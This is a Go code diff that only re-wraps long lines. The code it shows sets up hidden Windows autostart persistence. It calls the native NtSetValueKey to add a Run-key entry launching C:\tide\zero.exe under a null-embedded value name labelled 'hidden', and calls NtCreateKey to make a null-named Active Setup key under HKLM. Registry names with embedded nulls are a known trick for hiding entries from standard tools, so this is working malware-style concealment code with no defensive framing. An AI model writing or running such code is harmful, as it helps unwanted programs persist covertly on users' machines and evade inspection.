@@ -26,10 +26,12 @@ func counted(text string) *name {
 
 func main() {
 	ntdll := windows.NewLazySystemDLL("ntdll.dll")
-	k, _, err := registry.CreateKey(registry.CURRENT_USER, `Software\Microsoft\Windows\CurrentVersion\Run`, registry.SET_VALUE)
+	k, _, err := registry.CreateKey(registry.CURRENT_USER, `Software\Microsoft\Windows\CurrentVersion\Run`,
+		registry.SET_VALUE)
 	if err == nil {
 		command := windows.StringToUTF16(`C:\tide\zero.exe`)
-		r, _, _ := ntdll.NewProc("NtSetValueKey").Call(uintptr(k), uintptr(unsafe.Pointer(counted("Tide\x00 hidden"))), 0, registry.SZ, uintptr(unsafe.Pointer(&command[0])), uintptr(2*len(command)))
+		r, _, _ := ntdll.NewProc("NtSetValueKey").Call(uintptr(k), uintptr(unsafe.Pointer(counted("Tide\x00 hidden"))),
+			0, registry.SZ, uintptr(unsafe.Pointer(&command[0])), uintptr(2*len(command)))
 		if r != 0 {
 			err = fmt.Errorf("NtSetValueKey: %#x", r)
 		}
@@ -38,7 +40,8 @@ func main() {
 		fmt.Fprintln(os.Stderr, err)
 		os.Exit(1)
 	}
-	setup, _, err := registry.CreateKey(registry.LOCAL_MACHINE, `Software\Microsoft\Active Setup\Installed Components`, registry.ALL_ACCESS)
+	setup, _, err := registry.CreateKey(registry.LOCAL_MACHINE, `Software\Microsoft\Active Setup\Installed Components`,
+		registry.ALL_ACCESS)
 	if err == nil {
 		type attributes struct {
 			length      uint32
@@ -50,7 +53,8 @@ func main() {
 		a := attributes{root: windows.Handle(setup), name: counted("{zero}\x00"), attributes: 0x40}
 		a.length = uint32(unsafe.Sizeof(a))
 		var made windows.Handle
-		r, _, _ := ntdll.NewProc("NtCreateKey").Call(uintptr(unsafe.Pointer(&made)), uintptr(registry.ALL_ACCESS), uintptr(unsafe.Pointer(&a)), 0, 0, 0, 0)
+		r, _, _ := ntdll.NewProc("NtCreateKey").Call(uintptr(unsafe.Pointer(&made)), uintptr(registry.ALL_ACCESS),
+			uintptr(unsafe.Pointer(&a)), 0, 0, 0, 0)
 		if r != 0 {
 			err = fmt.Errorf("NtCreateKey: %#x", r)
 		}
